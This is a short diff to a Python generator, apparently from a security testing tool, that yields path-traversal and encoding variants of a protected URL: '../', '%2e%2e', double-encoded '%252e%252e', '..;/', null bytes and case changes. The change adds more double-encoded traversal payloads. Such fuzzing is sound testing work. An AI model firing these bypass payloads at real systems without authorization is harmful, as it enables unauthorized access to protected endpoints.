@@ -126,7 +126,8 @@ def _tricks(path: str, public: str) -> Iterator[str]:
     yield from (f"{parent}x/..%2f{last}/1", f"{parent.rstrip('/')}%2f{last}/1")
     yield from (f"{public}/../{last}/1", f"{public}/..%2f{last}/1", f"{public}/%2e%2e/{last}/1")
     yield from (f"{public}/..;/{last}/1", f"{public}/..%5c{last}/1", f"{public}%2f..%2f{last}/1")
-    yield from (f"{public}//..//{last}/1", f"{public}/%252e%252e/{last}/1".replace("%25", "%"))
+    yield from (f"{public}//..//{last}/1", f"{public}/%252e%252e/{last}/1")
+    yield from (f"{public}/%252e%252e%252f{last}/1", f"{parent}%252e/{last}/1")
     yield from (f"{path}/", f"{path};x=1/1", f"{path}%00/1", path.upper(), f"{path}?x=/api/v1/auth")
     yield f"{parent}%{ord(last[0]):02x}{last[1:]}/1"
 
